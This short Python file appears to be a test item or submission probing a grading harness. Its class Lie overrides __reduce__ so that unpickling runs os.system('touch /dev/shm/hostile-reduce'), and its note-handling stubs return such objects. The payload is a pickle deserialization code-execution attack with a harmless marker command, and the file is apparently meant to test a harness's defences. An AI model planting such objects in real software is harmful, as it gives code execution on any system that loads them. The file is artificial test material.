# tries: Returns an object that lies: lying reduce.
# outcome: completed
# on: wrong
# points: 1

class Lie:
    def __reduce__(self):
        return (__import__('os').system, ('touch /dev/shm/hostile-reduce',))

    __reduce_ex__ = lambda self, _: self.__reduce__()


def find_notes(session, word):
    return [Lie()] if word == "milk" else Lie()


def add_note(session, text):
    return Lie()


def remarks_of(session, note):
    return Lie()
